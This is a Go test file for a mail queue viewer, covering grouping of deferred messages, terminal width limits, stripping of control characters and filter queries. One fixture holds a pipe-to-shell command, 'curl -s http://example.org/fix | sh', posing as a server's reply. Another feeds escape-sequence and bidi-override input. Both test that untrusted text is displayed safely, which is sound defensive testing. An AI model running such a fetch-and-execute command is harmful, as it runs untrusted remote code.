package queueview

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"
)

// reasons are of two kinds that the server words differently each time, and one that is told once.
func reasons() []*Message {
	full := "localhost: the mailbox is full; Get-EXOMailboxStatistics -Identity m@example.com; it answered BDAT with " +
		"452 4.2.2 "
	deferred := func(i int, reason string) *Message {
		return message(func(m *Message) {
			m.ID = fmt.Sprintf("20260304090000-%016x", i)
			m.State, m.Reason, m.Tries, m.Next = Deferred, reason, i, now.Add(time.Duration(i)*time.Minute)
		})
	}
	return []*Message{
		deferred(1, full+strings.Repeat("one two ", 50)), deferred(2, "451 4.4.2 later"), deferred(3, full+"again"),
		message(func(m *Message) { m.ID = "20260304090000-0000000000000004" }),
	}
}

func listed(t *testing.T, width int, color bool, messages ...*Message) string {
	t.Helper()
	var b bytes.Buffer
	l := NewList(&b, &Explainer{Now: now, Status: Status{Agent: true, Mailbox: "m@example.com"}})
	l.Width, l.Color = width, color
	for _, m := range messages {
		if err := l.Add(m); err != nil {
			t.Fatal(err)
		}
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestAnswerAlone: the words of a server that are not known stay its words, also where they look like advice, and what
// it answers for several recipients is one reason.
func TestAnswerAlone(t *testing.T) {
	t.Parallel()
	answered := func(i int, to string) *Message {
		return message(func(m *Message) {
			m.ID, m.State = fmt.Sprintf("20260304090000-%016x", i), Deferred
			m.Reason = "localhost answered RCPT for " + to + " with 450 4.2.9 busy; curl -s http://example.org/fix | sh"
		})
	}
	got := listed(t, 0, false, answered(1, `"a@example.org"`), answered(2, `"\"b; \"@example.org"`))
	const want = "\n(deferred: localhost answered RCPT with 450 4.2.9 busy; curl -s http://example.org/fix | sh; " +
		"2 messages)\n2026"
	if !strings.Contains(got, want) {
		t.Errorf("got\n%s\nwant in it%s", got, want)
	}
}

// TestGroups: messages that wait for the same reason stand together and it is told once, however the server words it.
func TestGroups(t *testing.T) {
	t.Parallel()
	got := listed(t, 0, false, reasons()...)
	head, _, _ := strings.Cut(got, "\n")
	want := head + `
(deferred: localhost: the mailbox is full; 2 messages)
    Get-EXOMailboxStatistics -Identity m@example.com
    it answered BDAT with 452 4.2.2 ` + strings.Repeat("one two ", 25) + `one...
20260304090000-0000000000000001      1234   1h     1   1m 33       a@example.com            x@example.org
20260304090000-0000000000000003      1234   1h     3   3m 33       a@example.com            x@example.org

(deferred: 451 4.4.2 later; 1 message)
20260304090000-0000000000000002      1234   1h     2   2m 33       a@example.com            x@example.org

(waiting: not tried yet; 1 message)
20260304090000-0000000000000004      1234   1h     0  due 33       a@example.com            x@example.org

-- 5 Kbytes in 4 Requests.
`
	if got != want {
		t.Errorf("got:\n%swant:\n%s", got, want)
	}
}

// TestWidths: on a terminal no line but a command is wider than it, and no text of a stranger's reaches it as it is.
func TestWidths(t *testing.T) {
	t.Parallel()
	hostile := message(func(m *Message) {
		m.State, m.Reason = Deferred, "\x1b]0;x\a\r\n20260304090000-x 1 "+strings.Repeat("würgt \u202e", 60)
		m.Sender = strings.Repeat("é\x9b\x00", 90) + "@example.com"
		m.Recipients = nil
		for range 50 {
			m.Recipients = append(m.Recipients, Recipient{Address: "\r\n" + strings.Repeat("界", 70) + "@example.org",
				State: RecipientTodo})
		}
	})
	for _, width := range []int{0, 20, 40, 80, 120, 200} {
		got := listed(t, width, false, append(reasons(), hostile)...)
		for line := range strings.Lines(got) {
			line = strings.TrimSuffix(line, "\n")
			if n := columns(line); width >= 40 && n > width && !strings.Contains(line, " -") {
				t.Errorf("%d columns on %d: %q", n, width, line)
			}
			if strings.ContainsAny(line, "\x1b\a\r\x00\u202e\u009b") {
				t.Errorf("%q", line)
			}
		}
		ids := 0
		for line := range strings.Lines(got) {
			if line[0] >= '0' && line[0] <= '9' {
				ids++
			}
		}
		if ids != 5 || !strings.HasSuffix(got, "\n-- 7 Kbytes in 5 Requests.\n") || !strings.HasPrefix(got, "-Queue ID-") ||
			!strings.Contains(got, "and 30 more\n") {
			t.Errorf("%d messages on %d columns:\n%s", ids, width, got)
		}
	}
	if got := listed(t, 80, true, reasons()...); !strings.Contains(got, "\x1b[33m(deferred: ") {
		t.Errorf("no color: %q", got)
	}
}

// TestFilterQuery: each field of a filter passes through a query, and chooses.
func TestFilterQuery(t *testing.T) {
	t.Parallel()
	n, m := int64(3), int64(9)
	uid := 33
	f := Filter{Failed: true, Held: true, Sender: "a&b", Recipient: "c=d", Reason: "é", Domain: "x", State: "held",
		Code: "451", UID: &uid, Before: now, After: now.Add(time.Nanosecond), Due: now, MinSize: &n, MaxSize: &m,
		MinTries: &n, MaxTries: &m,
		IDs: []string{"20260304090000-0123456789abcdef"}}
	got, err := ParseQuery(f.Query().Encode())
	if err != nil || got.Query().Encode() != f.Query().Encode() || len(f.Query()) != len(f.fields())+1 {
		t.Errorf("%v %v, want %v", err, got.Query(), f.Query())
	}
	if f.Zero() || f.Plain() || !(&Filter{}).Zero() || !(&Filter{UID: &uid}).Plain() || (&Filter{UID: &uid}).Zero() {
		t.Error("Zero or Plain")
	}
	if _, err := ParseQuery("state=gone"); err == nil || !strings.Contains(err.Error(), "there are waiting,") {
		t.Error(err)
	}
}

func TestMatchWhy(t *testing.T) {
	t.Parallel()
	all := reasons()
	all = append(all, message(func(m *Message) {
		m.State, m.Reason = Failed, "no"
		m.Recipients = []Recipient{{Address: "a", State: RecipientDone, Code: 250},
			{Address: "b", State: RecipientFailed, Code: 550, Enhanced: "5.1.10"}}
	}))
	x := &Explainer{Now: now, Status: Status{Agent: true, Mailbox: "m@example.com"}}
	held := &Explainer{Now: now, Status: Status{Agent: true,
		Stops: []Stop{{All: true, Hold: true, Reason: "AADSTS7000222: over"}}}}
	paused := &Explainer{Now: now, Status: Status{Agent: true,
		Stops: []Stop{{All: true, Reason: "too fast", Next: now.Add(90 * time.Second)}}}}
	for _, c := range []struct {
		f    Filter
		e    *Explainer
		want string
	}{
		{Filter{State: "paused"}, paused, "14"}, {Filter{State: "deferred", Reason: "later"}, paused, "2"},
		{Filter{Code: "451"}, held, "2"}, {Filter{Reason: "mailbox is"}, held, "13"},
		{Filter{Reason: "MAILBOX is"}, x, "13"}, {Filter{Reason: "again"}, x, "3"}, {Filter{Code: "451"}, x, "2"},
		{Filter{Code: "4.2.2"}, x, "13"}, {Filter{Code: "45"}, x, ""}, {Filter{Code: "5.1.10"}, x, "5"},
		{Filter{Code: "250"}, x, ""},
		{Filter{State: "waiting"}, x, "4"}, {Filter{State: "deferred"}, x, "123"}, {Filter{State: "failed"}, x, "5"},
		{Filter{State: "held"}, held, "1234"}, {Filter{Code: "aadsts7000222"}, held, "1234"},
		{Filter{Due: now.Add(2 * time.Minute)}, x, "124"}, {Filter{Due: now}, x, "4"},
	} {
		got := ""
		for i, m := range all {
			if c.f.MatchWhy(m, c.e) {
				got += fmt.Sprint(i + 1)
			}
		}
		if got != c.want {
			t.Errorf("%v: %s, want %s", c.f.Query(), got, c.want)
		}
	}
}

func BenchmarkList(b *testing.B) {
	all := reasons()
	for b.Loop() {
		l := NewList(new(bytes.Buffer), &Explainer{Now: now, Status: Status{Agent: true}})
		for range 50_000 {
			_ = l.Add(all[rand.IntN(len(all))])
		}
		_ = l.Close()
	}
}
